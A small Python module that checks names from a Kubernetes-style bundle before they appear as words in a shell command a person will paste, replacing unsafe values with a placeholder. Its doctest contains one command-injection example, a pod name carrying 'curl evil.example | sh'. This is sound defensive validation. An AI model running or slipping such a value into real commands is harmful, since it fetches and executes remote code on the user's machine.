"""Names from a bundle as words of a command that somebody will paste into a shell."""

from __future__ import annotations

import re
from typing import Final

# No name of the Kubernetes API needs more, and none begins with a dash, which a program would take for an option.
_WORD: Final = re.compile(r"[A-Za-z0-9_./:@][A-Za-z0-9_./:@=+,%-]{0,1023}")


def word(value: str, name: str) -> str:
    """`value` where a shell takes it as one word and nothing else; otherwise `<name>`, for the reader to fill in.

    >>> word("web-0; curl evil.example | sh", "pod")
    '<pod>'
    """
    return value if _WORD.fullmatch(value) else f"<{name}>"
